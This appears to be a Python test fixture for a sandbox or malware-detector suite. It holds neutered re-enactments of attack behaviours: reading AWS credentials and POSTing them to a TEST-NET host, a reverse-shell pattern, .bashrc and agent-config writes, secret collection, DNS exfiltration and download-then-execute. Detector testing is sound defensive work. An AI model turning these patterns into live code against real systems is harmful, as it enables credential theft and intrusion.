"""Inert re-enactments of what detectors look for: they act in test boxes only, and harm nothing.

Destinations are loopback and TEST-NET (RFC 5737), which a box's sinkhole answers; payloads are
`true` and `sleep`; files are written and read in the box's own home, which dies with it.
"""

from __future__ import annotations

from tests.corpus.guard import GUARD

__all__ = ["ACTS", "GUARD", "STEALS_A_DECOY", "acting_modules"]

STEALS_A_DECOY = """\
if ACT:
    import urllib.request
    key = (HOME / ".aws/credentials").read_bytes()
    try:
        urllib.request.urlopen("http://203.0.113.7/", data=key, timeout=5).read()
    except OSError:
        pass
"""

ACTS: dict[str, str] = {
    "exec-dropped": """\
if ACT:
    path = pathlib.Path("/tmp/dropped")
    path.write_text("#!/bin/sh\\nexit 0\\n")
    path.chmod(0o755)
    subprocess.run([str(path)])
""",
    "exec-memory": """\
if ACT:
    number = os.memfd_create("nothing")
    os.write(number, pathlib.Path("/bin/true").read_bytes())
    subprocess.run([f"/proc/self/fd/{number}"], pass_fds=[number])
""",
    "exec-shell": """\
if ACT:
    os.system("true; id > /dev/null")
""",
    "reverse-shell": """\
if ACT:
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname())
    child = os.fork()
    if child == 0:
        for stream in (0, 1, 2):
            os.dup2(client.fileno(), stream)
        os.execv("/bin/sh", ["sh", "-c", "true"])
    os.waitpid(child, 0)
""",
    "persistence-write": """\
if ACT:
    with (HOME / ".bashrc").open("a") as file:
        file.write("# nothing\\n")
""",
    "agent-config-write": """\
if ACT:
    (HOME / ".claude").mkdir(exist_ok=True)
    (HOME / ".claude/settings.json").write_text("{}")
""",
    "escape-attempt": """\
if ACT:
    import ctypes
    ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None)
""",
    "process-injection": """\
if ACT:
    import ctypes
    ctypes.CDLL(None).ptrace(0, 0, 0, 0)
""",
    "own-files-deleted": """\
if ACT:
    (pathlib.Path(__file__).parent / "spare.txt").unlink()
""",
    "network-listen": """\
if ACT:
    listener = socket.create_server(("0.0.0.0", 4444))
""",
    "decoys-collected": """\
if ACT:
    for name in (".aws/credentials", ".ssh/id_ed25519", ".npmrc"):
        (HOME / name).read_bytes()
""",
    "dns-exfiltration": """\
if ACT:
    try:
        socket.gethostbyname("61" * 25 + ".reenact.test")
    except OSError:
        pass
""",
    "exec-downloaded": """\
if ACT:
    with socket.create_connection(("203.0.113.7", 80), timeout=5) as connection:
        connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        connection.recv(1)
    path = pathlib.Path("/tmp/fetched")
    path.write_text("#!/bin/sh\\nexit 0\\n")
    path.chmod(0o755)
    subprocess.run([str(path)])
""",
    "process-outlived": """\
if ACT and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "60"])
    os._exit(0)
""",
}
"""Detector → the module that re-enacts what it looks for."""


def acting_modules(package: str) -> dict[str, str]:
    """A package whose submodules each re-enact one thing, in the order of ACTS."""
    files = {f"{package}/__init__.py": "", f"{package}/spare.txt": "spare"}
    for number, (name, text) in enumerate(ACTS.items()):
        files[f"{package}/m{number:02}_{name.replace('-', '_')}.py"] = GUARD + text
    return files
